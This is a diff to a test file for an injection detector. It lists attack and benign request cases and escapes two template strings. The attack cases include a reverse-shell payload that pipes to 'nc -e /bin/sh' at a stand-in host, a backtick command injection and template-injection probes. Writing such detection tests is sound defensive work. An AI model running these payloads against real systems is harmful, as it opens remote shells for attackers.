@@ -54,7 +54,7 @@ const ATTACKS: Array<[rule: string, url: string, body?: unknown]> = [
   ['command-injection', '/ping', { host: '`id`' }],
   ['command-injection', q('x | nc -e /bin/sh evil.example 4444')],
   ['template-injection', q('{{7*7}}')],
-  ['template-injection', '/greet', { name: '${7*7}' }],
+  ['template-injection', '/greet', { name: `\${7*7}` }],
   [
     'template-injection',
     '/greet',
@@ -83,7 +83,7 @@ const BENIGN: Array<[name: string, url: string, body?: unknown]> = [
   ['cat food', '/orders', { note: 'I like fish; cat food too', other: 'Tom & Jerry | ls of items' }],
   ['a shell word alone', q('how to use curl')],
   ['a mustache template', '/templates', { html: 'Hello {{name}}, your order {{orderId}} shipped' }],
-  ['a price with a dollar', '/orders', { note: 'costs ${price} dollars' }],
+  ['a price with a dollar', '/orders', { note: `costs \${price} dollars` }],
   ['a sleep tracker', q('sleep tracker for 8 hours')],
   ['an email with a plus', '/users', { email: 'jane+orders@example.com' }],
   ['a JSON API body', '/orders', { items: [{ sku: 'A-1', qty: 2 }], shipping: { method: 'express' } }],
